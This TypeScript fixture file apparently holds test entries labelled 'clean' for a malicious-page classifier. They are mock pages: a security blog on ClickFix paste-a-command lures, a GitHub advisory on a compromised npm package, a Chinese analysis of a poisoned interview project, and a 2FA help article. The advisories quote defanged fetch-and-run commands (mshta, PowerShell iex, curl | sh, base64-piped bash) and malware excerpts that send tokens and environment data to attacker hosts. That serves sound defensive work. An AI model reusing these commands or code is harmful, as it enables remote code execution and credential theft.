// Clean: advisories and blog posts quoting malicious commands, help articles, status, bounty and careers pages (author zz).
import { htmlRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';
import { doc, qwDoc, QW_TOP, QW_MARK, GH_CSS, GH_MARK, GH_FOOT, FONT, esc } from '../parts/zz-kit.js';

export const entries: Entry[] = [
{
  id: 'zz-quellwerk-blog-clickfix-developers',
  label: 'clean',
  kind: 'security-blog-quoting-commands',
  url: 'https://quellwerk.io/blog/security/clickfix-campaigns-targeting-developers',
  body: qwDoc({
    title: '"Fix your build": ClickFix campaigns are coming for developers · Quellwerk Blog',
    head: `<meta property="og:type" content="article"><meta name="author" content="Quellwerk Security Team">`,
    main: `<div class="content"><article>
<p style="margin-top:28px;color:#5b6675;font-size:13px">Security · 16 October 2025 · 11 min read · Threat Intelligence team</p>
<h1>"Fix your build": ClickFix campaigns are coming for developers</h1>
<p>Over the past quarter our abuse desk received 214 reports of pages that try to get engineers to paste a command into a terminal. This post explains the three variants we see most often, shows the exact commands (defanged where they contain live infrastructure) and lists what we changed on our side.</p>
<h2>Variant 1: the fake CAPTCHA</h2>
<p>A compromised blog or documentation mirror loads a script that overlays a "verify you are human" box. Ticking it silently writes a command to the clipboard and shows three steps: <b>Win + R</b>, <b>Ctrl + V</b>, <b>Enter</b>. A typical clipboard payload:</p>
<pre><code>${esc(`mshta hxxps://cdn-verify-human[.]com/v/7419.hta # ✅ ''I am not a robot - reCAPTCHA Verification ID: 7419''`)}</code></pre>
<p>The trailing comment is there so that the Run dialog only shows the harmless-looking part. Another common form uses PowerShell directly:</p>
<pre><code>${esc(`powershell -w hidden -c "iex (iwr 'hxxps://github-scanner[.]shop/download.txt' -UseBasicParsing).Content"`)}</code></pre>
<h2>Variant 2: "your pipeline failed"</h2>
<p>Pages that imitate our pipeline UI claim a runner's CA bundle is outdated and offer a one-liner. The visible command and the copied one differ: the page hooks the <code>copy</code> event and replaces the text with a base64 blob:</p>
<pre><code>${esc(`echo "Y3VybCAtZnNTTCBodHRwczovL2NpLXJ1bm5lci1maXhbLl1kZXYvcnVubmVyL3IyIC1vIC90bXAvLnF3cg==" | base64 -d | bash`)}</code></pre>
<p>The second stage prompts for the macOS login password with <code>osascript</code> and drops an infostealer that collects browser cookies, <code>~/.ssh</code>, <code>~/.aws/credentials</code> and keychain items.</p>
<h2>Variant 3: the job interview</h2>
<p>Candidates are invited to a "video assessment". The camera "fails" and a modal offers a driver fix for macOS and Windows, e.g.:</p>
<pre><code>${esc(`curl -k -o /var/tmp/camdrv.sh hxxps://hire-meet-interview[.]com/drv/mac/update.sh && chmod +x /var/tmp/camdrv.sh && nohup bash /var/tmp/camdrv.sh >/dev/null 2>&1 &`)}</code></pre>
<h2>What you can do</h2>
<ul><li>No legitimate Quellwerk page will ever ask you to paste a command into Run, Terminal or PowerShell to fix your account or a pipeline.</li><li>Install commands for our CLI are only published on <code>docs.quellwerk.io</code>.</li><li>On managed Windows fleets, consider disabling the Run dialog (<code>NoRun</code>) and constraining PowerShell with AppLocker/WDAC.</li><li>Report suspicious pages to <a href="mailto:abuse@quellwerk.io">abuse@quellwerk.io</a>.</li></ul>
<h2>Indicators</h2>
<table><tr><th>Type</th><th>Value</th></tr><tr><td>Domain</td><td><code>cdn-verify-human[.]com</code></td></tr><tr><td>Domain</td><td><code>ci-runner-fix[.]dev</code></td></tr><tr><td>Domain</td><td><code>hire-meet-interview[.]com</code></td></tr><tr><td>SHA-256</td><td><code>9f1c0d4e7b2a…e83f</code> (ChromeUpdate, Mach-O)</td></tr></table>
</article></div>`,
  }),
},

{
  id: 'zz-github-advisory-malicious-npm-package',
  label: 'clean',
  kind: 'security-advisory-quoting-payload',
  url: 'https://github.com/advisories/GHSA-7x3q-9mvf-2c4h',
  body: doc({
    title: 'Malware in @nordlicht-ui/tokens · CVE-2025-59144 · GitHub Advisory Database · GitHub',
    head: `<style>${GH_CSS}.wrap{max-width:1012px;margin:24px auto;padding:0 16px;display:grid;grid-template-columns:1fr 300px;gap:24px}.bx{background:#fff;border:1px solid #d1d9e0;border-radius:6px;padding:16px 20px}
.lbl{display:inline-block;background:#cf222e;color:#fff;border-radius:2em;padding:0 10px;font-size:12px;font-weight:600}pre{background:#f6f8fa;border-radius:6px;padding:12px;font-size:12px;overflow:auto}
.side dt{color:#59636e;font-size:12px;margin-top:12px}.side dd{margin:2px 0 0}</style>`,
    body: `<div style="background:#fff;border-bottom:1px solid #d1d9e0;padding:12px 24px;display:flex;gap:10px;align-items:center">${GH_MARK.replace(/48/g, '32')}<b>GitHub Advisory Database</b></div>
<div class="wrap"><div><h1 style="font-weight:400;font-size:26px">Malware in @nordlicht-ui/tokens</h1><p><span class="lbl">Critical severity</span> &nbsp; GitHub Reviewed · Published Oct 14, 2025 · Updated Oct 15, 2025</p>
<div class="bx"><h3>Package</h3><p><b>npm</b> @nordlicht-ui/tokens</p><p>Affected versions: <code>= 2.4.7, = 2.4.8</code> · Patched versions: None</p></div>
<div class="bx" style="margin-top:16px"><h3>Description</h3>
<p>Versions 2.4.7 and 2.4.8 of <code>@nordlicht-ui/tokens</code> were published from a compromised maintainer account and contain malicious code. The package adds a <code>postinstall</code> hook that runs an obfuscated script:</p>
<pre>${esc(`"scripts": {
  "postinstall": "node scripts/telemetry.js"
}`)}</pre>
<p>The script collects environment variables, <code>.npmrc</code> tokens and GitHub CLI credentials and sends them to an external webhook. Deobfuscated excerpt:</p>
<pre>${esc(`const t = [process.env, fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')];
https.request({ hostname: 'npm-stats-cdn[.]com', path: '/v1/t', method: 'POST' }).end(JSON.stringify(t));
require('child_process').exec('curl -s hxxps://npm-stats-cdn[.]com/s.sh | sh');`)}</pre>
<p>Any computer that has this package installed or running should be considered fully compromised. All secrets and keys stored on that computer should be rotated immediately from a different computer. The package should be removed, but as full control of the computer may have been given to an outside entity, there is no guarantee that removing the package will remove all malicious software resulting from installing it.</p></div>
<div class="bx" style="margin-top:16px"><h3>References</h3><ul><li><a href="https://quellwerk.io/blog/security/nordlicht-ui-tokens-compromise">quellwerk.io/blog/security/nordlicht-ui-tokens-compromise</a></li><li><a href="https://github.com/advisories/GHSA-7x3q-9mvf-2c4h">github.com/advisories/GHSA-7x3q-9mvf-2c4h</a></li></ul></div></div>
<dl class="side bx"><dt>Severity</dt><dd>Critical</dd><dt>CVE ID</dt><dd>CVE-2025-59144</dd><dt>GHSA ID</dt><dd>GHSA-7x3q-9mvf-2c4h</dd><dt>Weaknesses</dt><dd>CWE-506 Embedded Malicious Code</dd><dt>Source code</dt><dd>No known source code</dd></dl></div>${GH_FOOT}`,
  }),
},

{
  id: 'zz-freebuf-style-npm-takehome-analysis-cn',
  label: 'clean',
  kind: 'security-blog-quoting-commands',
  url: 'https://www.freebuf.com/articles/network/418822.html',
  body: doc({
    lang: 'zh-CN',
    title: '针对开发者的"面试题"投毒:恶意 npm 项目分析 - FreeBuf网络安全行业门户',
    head: `<style>body{margin:0;font-family:"PingFang SC","Microsoft YaHei",sans-serif;color:#333;background:#f6f7f9;line-height:1.85}
.h{background:#fff;padding:12px 40px;border-bottom:1px solid #eee;font-weight:700;color:#1a6aff}.a{max-width:820px;margin:24px auto;background:#fff;padding:30px 40px}
pre{background:#282c34;color:#abb2bf;padding:12px;font-size:13px;white-space:pre-wrap;border-radius:4px}.m{color:#999;font-size:13px}</style>`,
    body: `<div class="h">FreeBuf</div><div class="a"><h1>针对开发者的"面试题"投毒:恶意 npm 项目分析</h1><p class="m">安全研究员 · 2025-10-12 · 阅读 8,214</p>
<p>近期我们捕获到多起以"远程高薪工作"为诱饵、针对前端和区块链开发者的攻击。攻击者冒充招聘方,在面试过程中要求候选人下载一个"技术测试"项目,并在本地运行 <code>npm install</code>。</p>
<h2>一、样本概况</h2><p>项目结构与正常的 Next.js 项目几乎一致,恶意逻辑隐藏在 <code>package.json</code> 的生命周期脚本中:</p>
<pre>${esc(`{
  "name": "rewards-dashboard",
  "scripts": { "prepare": "node server/config/setup.js" }
}`)}</pre>
<h2>二、载荷分析</h2><p><code>setup.js</code> 中的 Base64 字符串解码后为 C2 地址,下载第二阶段代码并通过 <code>new Function</code> 执行:</p>
<pre>${esc(`const u = Buffer.from('aHR0cDovLzE3Mi44Ni43NC4xOToxMjQ0L2FwaS9zZXJ2aWNl','base64').toString();
// => http://172.86.74[.]19:1244/api/service
new Function('require', (await axios.get(u + '/' + os.platform())).data)(require);`)}</pre>
<p>第二阶段会窃取 Chrome / Brave 浏览器中保存的密码、MetaMask 等钱包扩展数据以及 <code>~/.ssh</code> 目录。</p>
<h2>三、防护建议</h2><ul><li>不要在主力工作机上运行来源不明的项目代码,使用虚拟机或 Docker 隔离;</li><li>执行 <code>npm install --ignore-scripts</code>,并在运行前审查 <code>package.json</code>;</li><li>对"先运行项目再面试"的要求保持警惕。</li></ul>
<h2>四、IOC</h2><pre>172.86.74[.]19:1244
blockventure-labs[.]io
rewards-dashboard.zip  SHA256: 5e0b…c91a</pre></div>`,
  }),
},

{
  id: 'zz-quellwerk-docs-2fa-recovery-help',
  label: 'clean',
  kind: 'password-help-article',
  url: 'https://docs.quellwerk.io/account/two-factor-authentication/recovery/',
  body: qwDoc({
    title: 'Recovering your account if you lose your 2FA device · Quellwerk Docs',
    main: `<div class="content"><article>
<p style="margin-top:24px;color:#5b6675;font-size:13px">Docs › Account › Two-factor authentication › Recovery</p>
<h1>Recovering your account if you lose your 2FA device</h1>
<p>If you can't access your authenticator app or security key, you can still sign in with one of your recovery methods.</p>
<h2>1. Use a recovery code</h2><ol><li>Go to <a href="https://quellwerk.io/users/sign_in">quellwerk.io/users/sign_in</a> and enter your username and password.</li><li>On the two-factor page, select <b>Use a recovery code</b>.</li><li>Enter one of the 10 codes you downloaded when you enabled 2FA. Each code works once.</li></ol>
<h2>2. Generate new codes with an SSH key</h2><p>If you added an SSH key to your account, you can generate new recovery codes from your terminal:</p>
<pre><code>ssh git@quellwerk.io 2fa_recovery_codes</code></pre>
<h2>3. Contact Support</h2><p>If none of the above works, open a request at <a href="https://support.quellwerk.io">support.quellwerk.io</a>. For your protection, account recovery takes 3–5 business days and requires verifying ownership.</p>
<div style="background:#fff4e5;border:1px solid #f5c07a;border-radius:8px;padding:12px 16px;font-size:14px"><b>Quellwerk will never</b> ask for your password, recovery codes or a 2FA code by email, chat or phone, and never asks you to enter a code on a site other than <code>quellwerk.io</code>.</div>
<h2>Resetting your password</h2><p>To reset a forgotten password, go to <a href="https://quellwerk.io/users/password/new">Forgot your password?</a>, enter your primary email and follow the link we send. Links expire after 60 minutes.</p>
</article></div>`,
  }),
},
];
